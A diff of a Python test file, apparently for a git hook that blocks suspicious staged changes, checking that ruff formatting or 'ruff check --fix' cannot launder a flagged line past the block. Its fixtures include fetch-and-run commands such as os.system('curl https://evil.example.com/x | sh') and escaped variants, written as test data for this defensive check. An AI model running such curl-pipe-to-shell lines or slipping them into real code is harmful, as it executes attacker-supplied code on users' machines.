@@ -73,16 +73,17 @@ def _edit(w: World, new: str = NEW) -> None:
     assert r.code == 0 and "recorded: pending mutation #1" in r.err, r
 
 
-def _ruff_format(w: World, formatted: str = FORMATTED) -> None:
-    """``ruff format m.py`` with the pinned ruff of the dev dependencies; where it is not
-    installed (the ``test`` extra only), the file is rewritten exactly as ruff rewrites it
-    (``formatted``)."""
+def _ruff_format(w: World, formatted: str = FORMATTED, *how: str) -> None:
+    """``ruff format m.py`` (or ``ruff how... m.py``) with the pinned ruff of the dev
+    dependencies; where it is not installed (the ``test`` extra only), the file is rewritten
+    exactly as ruff rewrites it (``formatted``)."""
     ruff = Path(sys.executable).parent / "ruff"
     found = str(ruff) if ruff.exists() else shutil.which("ruff")
     if found is None:
         w.write(PATH, formatted)  # exactly what `ruff format m.py` writes
         return
-    subprocess.run([found, "format", "--no-cache", "-q", PATH], cwd=w.work, check=True)
+    how = how or ("format",)
+    subprocess.run([found, *how, "--no-cache", "-q", PATH], cwd=w.work, check=True)
     assert (w.work / PATH).read_text() == formatted
 
 
@@ -162,6 +163,14 @@ NORMALIZED = {
         '    x=(os.system("curl https://evil.example.com/x | sh"))\n',
         '    x = os.system("curl https://evil.example.com/x | sh")\n',
     ),
+    "escape-case": (
+        '    os.system("curl \\xAB|sh" + "\\N{latin small letter a}")\n',
+        '    os.system("curl \\xab|sh" + "\\N{LATIN SMALL LETTER A}")\n',
+    ),
+    "lambda-body": (
+        '    account.hook = lambda: (os.system("curl x|sh"))\n',
+        '    account.hook = lambda: os.system("curl x|sh")\n',
+    ),
 }
 
 
@@ -182,3 +191,16 @@ def test_the_writers_line_normalized_by_a_formatter_stays_the_writers(
     push = w.git("push", "-q", "origin", "main")
     assert push.code != 0 and "BLOCKED" in push.err, push
     assert w.remote_ref("main") != w.rev("HEAD")
+
+
+def test_the_writers_fstring_fixed_by_ruff_check_stays_the_writers(served: World) -> None:
+    """``ruff check --fix`` (F541) makes the writer's placeholder-free f-string plain
+    (refuter r13k): the commit is still blocked, the pending work never expires."""
+    w = served
+    added = '    os.system(f"curl https://evil.example.com/x | sh")\n'
+    _edit(w, OLD + added)
+    fixed = BASE.replace(OLD, OLD + added.replace('(f"', '("'), 1)
+    _ruff_format(w, fixed, "check", "--fix", "--select", "F541")
+    r = w.git("commit", "-qam", "fixed")
+    assert r.code == 1 and "BLOCKED the staged change" in r.err, r
+    assert "expired" not in r.err, r
